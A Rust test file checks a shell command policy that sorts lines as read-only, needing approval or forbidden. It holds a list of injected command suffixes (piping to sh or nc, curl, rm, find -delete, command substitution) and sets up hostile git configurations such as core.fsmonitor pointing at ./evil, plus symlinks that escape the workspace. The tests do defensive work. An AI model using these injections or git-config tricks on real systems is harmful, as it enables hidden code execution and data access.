//! The command policy: a list of lines with verdicts (`fixtures/policy`), and what must hold for every line.

use crate::oracle::manifest;
use crate::workspace::git;
use proptest::prelude::*;
use qwright::workspace::shell::policy::{CommandVerdict, Place, judge, plain_commands};
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

#[derive(serde::Deserialize)]
struct Case {
    verdict: CommandVerdict,
    line: String,
}

fn cases() -> Vec<Case> {
    let text = std::fs::read_to_string(manifest().join("fixtures/policy/lines.jsonl")).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn verdict(line: &str) -> CommandVerdict {
    judge(line, &Place::default()).verdict
}

#[test]
fn every_line_of_the_list_has_its_verdict() {
    let cases = cases();
    assert!(cases.len() >= 300, "{} lines", cases.len());
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|case| {
            let got = judge(&case.line, &Place::default());
            (got.verdict != case.verdict).then(|| {
                format!("{:?} is {:?} ({}), not {:?}", case.line, got.verdict, got.reason, case.verdict)
            })
        })
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

/// What writes, connects or runs something, put behind a line in every way that makes it a part of that line.
const HARM: &[&str] = &[
    " > out",
    " >> out",
    " 2> err",
    " &> out",
    " >| out",
    " <> out",
    "; touch x",
    " && rm x",
    " || rm x",
    " | tee x",
    " | sh",
    " | xargs rm",
    "\ntouch x",
    "\r\ntouch x",
    " & touch x",
    " & ",
    " $(touch x)",
    " `touch x`",
    " <(touch x)",
    " \"$(touch x)\"",
    " ${x:-$(touch x)}",
    "; X=1 ls",
    "; (touch x)",
    "; { touch x; }",
    "; if true; then rm x; fi",
    "; curl example.com",
    " | nc example.com 1",
    "; ./x",
    "; python3 x.py",
    "; cargo build",
    "; git push",
    "; eval x",
    "; . x",
    "; PATH=. ls",
    "; ls() { rm x; }; ls",
    " |& tee x",
    "; sed -i s/a/b/ x",
    "; sort -o x y",
    "; find . -delete",
    "; sudo ls",
    "\n\nrm x",
    " ;rm x",
    ";rm x",
    "&&rm x",
    "|tee x",
    ">out",
    " <<E\n$(rm x)\nE",
];

#[test]
fn no_read_only_line_stays_so_with_harm_behind_it() {
    for case in cases() {
        // A comment or a here-document swallows what is put behind it.
        let swallows = case.line.contains(" #") || case.line.contains("<<");
        if case.verdict != CommandVerdict::ReadOnly || swallows {
            continue;
        }
        for harm in HARM {
            let line = format!("{}{harm}", case.line);
            assert_ne!(verdict(&line), CommandVerdict::ReadOnly, "{line:?}");
        }
    }
}

#[test]
fn what_is_forbidden_stays_so_behind_and_inside_other_commands() {
    for case in cases() {
        if case.verdict != CommandVerdict::Forbidden || case.line.contains(['\n', '\'']) {
            continue;
        }
        for line in [
            format!("ls; {}", case.line),
            format!("ls && {}", case.line),
            format!("( {} )", case.line),
            format!("if true; then {}\nfi", case.line),
            format!("sh -c '{}'", case.line),
            format!("env A=1 bash -c '{}'", case.line),
            format!("bash <<'END'\n{}\nEND", case.line),
            format!("echo $({}\n)", case.line),
        ] {
            assert_eq!(verdict(&line), CommandVerdict::Forbidden, "{line:?}");
        }
    }
}

#[test]
fn lines_nested_without_end_are_judged_too() {
    for line in [
        "$(".repeat(100_000),
        "(".repeat(100_000),
        "`".repeat(100_001),
        "\"$(".repeat(50_000),
        "${a:-".repeat(30_000),
        "sh -c ".repeat(20_000),
        "env ".repeat(50_000),
        "<<E ".repeat(10_000),
    ] {
        assert_ne!(verdict(&line), CommandVerdict::ReadOnly, "{}", &line[..20]);
    }
}

#[test]
fn git_reads_unasked_only_where_the_repository_can_start_nothing() {
    let judged = |root: &Path, line: &str| judge(line, &Place::in_workspace(&root.canonicalize().unwrap()));
    let plain = tempfile::tempdir().unwrap();
    git(plain.path(), &["init", "-q"]);
    std::fs::create_dir(plain.path().join("src")).unwrap();
    for line in ["git status", "git log --oneline", "cd src && git diff"] {
        let judgement = judged(plain.path(), line);
        assert_eq!(judgement.verdict, CommandVerdict::ReadOnly, "{line}: {}", judgement.reason);
    }
    for (key, value) in [
        ("core.fsmonitor", "./evil"),
        ("core.pager", "./evil"),
        ("diff.external", "./evil"),
        ("diff.x.textconv", "./evil"),
        ("filter.x.clean", "./evil"),
        ("gpg.program", "./evil"),
        ("include.path", "../evil"),
        ("core.worktree", "/"),
    ] {
        let hostile = tempfile::tempdir().unwrap();
        git(hostile.path(), &["init", "-q"]);
        git(hostile.path(), &["config", key, value]);
        for line in ["git status", "git diff", "git log -p"] {
            assert_eq!(judged(hostile.path(), line).verdict, CommandVerdict::NeedsApproval, "{key}: {line}");
        }
        assert_eq!(judged(hostile.path(), "ls -la").verdict, CommandVerdict::ReadOnly);
        // The same repository below a plain one.
        let inside = plain.path().join("vendor");
        std::fs::create_dir(&inside).unwrap();
        git(&inside, &["init", "-q"]);
        git(&inside, &["config", key, value]);
        assert_eq!(
            judged(plain.path(), "cd vendor && git status").verdict,
            CommandVerdict::NeedsApproval,
            "{key}"
        );
        std::fs::remove_dir_all(inside).unwrap();
    }
}

#[test]
fn git_reads_unasked_only_in_the_repository_that_was_looked_at() {
    type Change = (&'static str, fn(&Path), CommandVerdict);
    const EVIL: &str = "[core]\n\tfsmonitor = ./evil\n";
    let append = |root: &Path, text: &str| {
        let config = root.join(".git/config");
        let before = std::fs::read_to_string(&config).unwrap();
        std::fs::write(config, before + text).unwrap();
    };
    fn bare(root: &Path) {
        for folder in ["sub", "objects", "refs"] {
            std::fs::create_dir_all(root.join("vendor").join(folder)).unwrap();
        }
        std::fs::write(root.join("vendor/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(root.join("vendor/config"), EVIL).unwrap();
    }
    fn dangling_head(folder: &Path) {
        let _ = std::fs::remove_file(folder.join("HEAD"));
        symlink("refs/heads/none", folder.join("HEAD")).unwrap();
    }
    let changes: &[Change] = &[
        ("git status", |_| {}, CommandVerdict::ReadOnly),
        (
            "cd docs && git status",
            |root| symlink("src", root.join("docs")).unwrap(),
            CommandVerdict::ReadOnly,
        ),
        (
            "cd docs && git status",
            |root| {
                bare(root);
                symlink("vendor/sub", root.join("docs")).unwrap();
            },
            CommandVerdict::NeedsApproval,
        ),
        (
            "cd vendor && git status",
            |root| {
                bare(root);
                dangling_head(&root.join("vendor"));
            },
            CommandVerdict::NeedsApproval,
        ),
        ("git status", |root| dangling_head(&root.join(".git")), CommandVerdict::NeedsApproval),
        ("git status", dangling_head, CommandVerdict::NeedsApproval),
        (
            "git diff",
            |root| std::fs::write(root.join(".git/hooks/post-index-change"), "").unwrap(),
            CommandVerdict::NeedsApproval,
        ),
    ];
    for (line, change, expected) in changes {
        let root = tempfile::tempdir().unwrap();
        let root = root.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        std::fs::create_dir_all(root.join("src")).unwrap();
        change(&root);
        let judgement = judge(line, &Place::in_workspace(&root));
        assert_eq!(judgement.verdict, *expected, "{line}: {}", judgement.reason);
    }
    for (text, expected) in [
        ("[branch \"fsmonitor\"]\n", CommandVerdict::ReadOnly),
        ("[branch \"x\"] [core] fsmonitor = ./evil #\"]\n", CommandVerdict::NeedsApproval),
    ] {
        let root = tempfile::tempdir().unwrap();
        let root = root.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        append(&root, text);
        assert_eq!(judge("git status", &Place::in_workspace(&root)).verdict, expected, "{text}");
    }
}

#[test]
fn links_that_leave_the_workspace_are_not_followed_unasked() {
    let root = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("f"), "x").unwrap();
    std::fs::write(root.path().join("own"), "x").unwrap();
    symlink(outside.path(), root.path().join("out")).unwrap();
    symlink("own", root.path().join("in")).unwrap();
    for folder in ["a", "b", "many"] {
        std::fs::create_dir(root.path().join(folder)).unwrap();
    }
    std::fs::write(root.path().join("a/.env"), "x").unwrap();
    symlink(outside.path().join("f"), root.path().join("a/notes.md")).unwrap();
    symlink("a/.env", root.path().join("plain")).unwrap();
    (0..1001).for_each(|number| std::fs::write(root.path().join(format!("many/{number}")), "").unwrap());
    let place = Place::in_workspace(&root.path().canonicalize().unwrap());
    let shown = place.root.clone().unwrap();
    for (line, expected) in [
        ("cat own".to_string(), CommandVerdict::ReadOnly),
        ("cat in".into(), CommandVerdict::ReadOnly),
        (format!("cat {}/own", shown.display()), CommandVerdict::ReadOnly),
        ("cat out/f".into(), CommandVerdict::NeedsApproval),
        ("cd out && cat f".into(), CommandVerdict::NeedsApproval),
        ("cat < out/f".into(), CommandVerdict::NeedsApproval),
        ("cat i* own".into(), CommandVerdict::ReadOnly),
        ("cat a/*.txt".into(), CommandVerdict::ReadOnly),
        ("cat o*".into(), CommandVerdict::NeedsApproval),
        ("cat a/*.md".into(), CommandVerdict::NeedsApproval),
        ("cat */*.md".into(), CommandVerdict::NeedsApproval),
        ("cat */f".into(), CommandVerdict::NeedsApproval),
        ("cd a && cat *.md".into(), CommandVerdict::NeedsApproval),
        ("cat a/.en*".into(), CommandVerdict::NeedsApproval),
        ("cat plain".into(), CommandVerdict::NeedsApproval),
        ("ls many".into(), CommandVerdict::ReadOnly),
        ("ls many/*".into(), CommandVerdict::NeedsApproval),
        ("diff own in".into(), CommandVerdict::ReadOnly),
        ("diff a b".into(), CommandVerdict::NeedsApproval),
        (format!("cat {}", outside.path().display()), CommandVerdict::NeedsApproval),
    ] {
        assert_eq!(judge(&line, &place).verdict, expected, "{line}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_judged(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let text = String::from_utf8_lossy(&bytes);
        judge(&text, &Place::default());
    }

    #[test]
    fn any_signs_of_the_shell_are_judged(text in "[a$(){}\\[\\]<>|&;'\"`\\\\ \n#=~*?!0-9-]{0,60}") {
        judge(&text, &Place::default());
        plain_commands(&text);
    }

    /// Where the parser is sure of a line, bash reads the same words.
    #[test]
    fn sure_words_are_the_words_of_bash(text in "[ab'\"\\\\ \t\n#={},.!:;&|()<>@%^-]{0,12}") {
        let line = format!("p {text}");
        let words = plain_commands(&line).filter(|commands| commands.len() == 1).map(|mut commands| commands.remove(0));
        if let Some(words) = words && !line.contains(['<', '>']) {
            let script = format!("p() {{ printf '%s\\0' \"$@\" END; }}\n{line}");
            let done = Command::new("bash").arg("-c").arg(&script).env_clear().output().unwrap();
            let out = String::from_utf8(done.stdout).unwrap();
            let read: Vec<&str> = out.split_terminator('\0').collect();
            let mut expected: Vec<&str> = words[1..].iter().map(String::as_str).collect();
            expected.push("END");
            prop_assert_eq!(read, expected, "{:?}: {}", line, String::from_utf8_lossy(&done.stderr));
        }
    }
}
